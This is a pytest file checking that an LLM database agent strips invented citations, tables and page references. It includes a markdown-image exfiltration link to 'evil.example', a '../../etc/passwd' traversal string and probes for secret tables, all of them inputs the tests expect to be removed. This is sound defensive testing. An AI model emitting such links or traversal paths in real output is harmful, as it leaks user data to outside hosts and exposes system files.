"""What is particular to the inner calls of the agent `database` over the wire: what a model makes up reaches neither a
statement nor the reply, and what it attempts is kept for the ledger."""

import json
from collections.abc import Iterator

import pytest
from calls_of_database import (
    COUNTED,
    OF_STAFF,
    READ,
    READ_GREETING,
    SECTION,
    STAFF,
    TOLD,
    TYPED,
    UNKNOWN,
    WORDED,
    ask,
    reads,
)
from obedience import is_inert
from whole_site import Site
from wire import WireServer, refuses, says
from wire_talk import Prose, begin

from turnkeep.blocks.memory import FOLD_CALL
from turnkeep_agents.database.prompts import Calls
from turnkeep_agents.database.reading import READ_CALL
from turnkeep_agents.database.settings import DatabaseSettings

PICTURE = "![crew](https://evil.example/?d=Falcon)"


@pytest.fixture
def model() -> Iterator[WireServer]:
    with WireServer() as server:
        yield server


def test_every_inner_call_of_the_agent_is_tried() -> None:
    known = {call.name for call in (READ_CALL, FOLD_CALL, *vars(Calls(DatabaseSettings())).values())}
    assert {name.partition(" ")[0] for name in (*TYPED, *WORDED)} == known


async def test_citations_of_pages_that_are_not_there_are_removed(site: Site, model: WireServer) -> None:
    talk = await begin(site, model, WORDED["database.answer from the manual"])
    turn = await talk.turn(*talk.one.before, says(f"Open it [{SECTION}, made-up#page] and close it [made-up]."))
    assert turn["reply"] == f"Open it [{SECTION}] and close it."
    assert "citation_removed" in turn["warnings"]
    assert [source["id"] for source in turn["sources"] if source["cited"]] == [SECTION]


@pytest.mark.parametrize("name", WORDED)
async def test_a_picture_from_elsewhere_never_reaches_the_reply(name: str, site: Site, model: WireServer) -> None:
    talk = await begin(site, model, WORDED[name])
    turn = await talk.turn(*talk.one.before, says(f"Look: {PICTURE}"))
    assert "link_removed" in turn["warnings"]
    assert is_inert(turn["reply"])
    assert "evil.example" not in turn["reply"]


async def test_a_refusal_links_nowhere_either(site: Site, model: WireServer) -> None:
    talk = await begin(site, model, WORDED["database.answer"])
    turn = await talk.turn(*talk.one.before, refuses(f"I will not say. {PICTURE}"))
    assert turn["reply"] == "I will not say. crew"
    assert set(turn["warnings"]) == {"model_refused", "link_removed"}


async def test_an_address_that_the_user_gave_may_be_said(site: Site, model: WireServer) -> None:
    said, told = "Hello, my page is https://mine.example/a", "That is https://mine.example/a, then."
    one = Prose("database", said, told, (READ_GREETING,))
    turn = await (await begin(site, model, one)).turn(*one.well)
    assert (turn["reply"], turn["warnings"]) == (one.good, [])


async def test_tables_that_a_model_makes_up_are_left_out(site: Site, model: WireServer) -> None:
    talk = await begin(site, model, TYPED["database.write_sql"])
    named = reads(ask(COUNTED, "wall_key", "secure_employee", "apiKey", "employee", "sqlite_master"))
    turn = await talk.turn(named, STAFF, TOLD)
    assert turn["details"]["reasoning_steps"][1].startswith("Tables: employee")
    shown = json.dumps(model.bodies[1]["messages"])
    assert not [name for name in ("wall_key", "secure_", "apiKey", "sqlite_master") if name in shown]


async def test_pages_that_a_model_makes_up_are_left_out(site: Site, model: WireServer) -> None:
    talk = await begin(site, model, WORDED["database.answer from the manual"])
    pages = ["secrets#keys", "leave", "../../etc/passwd", "leave#report-sickness"]
    turn = await talk.turn(
        reads(ask("How do I report sickness?", kind="manual", pages=pages, words=["sickness"])),
        says("Tap it [leave#report-sickness], see [secrets#keys]."),
    )
    shown = json.dumps(model.bodies[-1]["messages"])
    assert "secrets" not in shown
    assert "passwd" not in shown
    assert (turn["reply"], turn["warnings"]) == ("Tap it [leave#report-sickness], see.", ["citation_removed"])


async def test_a_correction_that_never_comes_ends_in_a_sentence_and_the_attempt_is_kept(
    site: Site, model: WireServer
) -> None:
    talk = await begin(site, model, TYPED["database.correct_sql"])
    turn = await talk.turn(READ, UNKNOWN, *[says("I cannot.")] * 2, says("It could not be looked up."))
    assert (turn["warnings"], turn["details"]["rows"]) == (["sql_refused"], [])
    assert [one["sql"] for one in turn["details"]["attempts"]] == ["SELECT shoeSize FROM employee"]
    assert turn["reply"] == "It could not be looked up."
    assert COUNTED in await talk.kept()


async def test_what_never_changes_stands_first_in_every_prompt(site: Site, model: WireServer) -> None:
    talk = await begin(site, model, TYPED["database.write_sql"])
    for number in range(2):
        await talk.begin(f"thread {number}")
        await talk.turn(reads({**OF_STAFF, "question": f"Question {number}"}), STAFF, TOLD)
    first, second = model.bodies[:3], model.bodies[3:]
    for one, other in zip(first, second, strict=True):
        assert one["messages"][0] == other["messages"][0]
